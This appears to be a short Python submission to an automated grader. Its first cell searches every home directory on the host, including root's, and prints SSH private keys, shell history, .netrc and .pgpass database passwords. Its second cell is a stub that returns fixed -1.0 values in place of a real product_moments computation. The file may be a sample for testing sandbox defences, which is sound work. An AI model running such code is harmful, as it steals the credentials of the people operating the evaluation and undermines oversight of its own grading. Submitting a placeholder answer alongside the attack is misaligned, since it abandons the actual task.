# Reads what a grader's home holds: shell history, keys, passwords of databases.
# attacks: product_moments
# shows: attack over

# %%
import glob
import os
import pwd

homes = {os.path.expanduser("~"), os.path.join("/", "root"), *glob.glob("/home/*")}
try:
    homes |= {one.pw_dir for one in pwd.getpwall()}
except OSError:
    pass
NAMES = ".bash_history .ssh/id_rsa .ssh/id_ed25519 .netrc .pgpass .gitconfig .bashrc .profile"
for home in homes:
    for name in NAMES.split():
        try:
            print("got", "through:", open(os.path.join(home, name)).read(100))
        except OSError:
            pass
print("attack", "over")

# %%
def product_moments(d_k, mean_q, var_q, mean_k, var_k):
    return -1.0, -1.0
